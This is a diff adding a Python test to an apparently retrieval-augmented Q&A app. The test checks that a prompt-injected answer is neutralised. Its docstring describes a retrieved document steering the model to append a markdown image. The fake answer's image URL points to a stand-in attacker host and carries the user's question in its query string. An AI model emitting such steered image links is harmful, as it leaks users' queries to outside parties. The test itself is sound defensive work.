@@ -154,3 +154,22 @@ def test_an_answered_turn_is_judged_in_the_background_when_online_judging_is_on(
     [judgement] = DynamoFeedbackStore(app_env).judgements()
     [turn] = make_store(app_env).session_turns(at.session_state["session_id"])
     assert (judgement.turn_id, judgement.reference_kind, judgement.score) == (turn.turn_id, "none", 4.5)
+
+
+def test_an_answer_steered_to_carry_an_image_shows_no_image(app_env, monkeypatch):
+    """A document can tell the model to append an image whose URL carries the question: the answer
+    is shown with the URL as text, never as an image the browser would load."""
+    from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
+    from langchain_core.messages import AIMessage
+
+    from app import services
+    from pipeline.chain import build_chain
+    from pipeline.retriever import IndexRetriever
+
+    leak = "https://evil.example/collect?q=basic-design-wind-speed"
+    steered = GenericFakeChatModel(messages=iter([AIMessage(f"The basic wind speed is 115 mph [1]. ![status]({leak})")]))
+    retriever = IndexRetriever(index=services.index(), embedder=services.embedder(), k=3)
+    monkeypatch.setattr(services, "chain", lambda: build_chain(steered, retriever, "steered", 0.0))
+    at = ask(open_app())
+    [shown] = [html.proto.body for html in at.get("html") if "plumb-answer" in html.proto.body]
+    assert "<img" not in shown and leak in shown
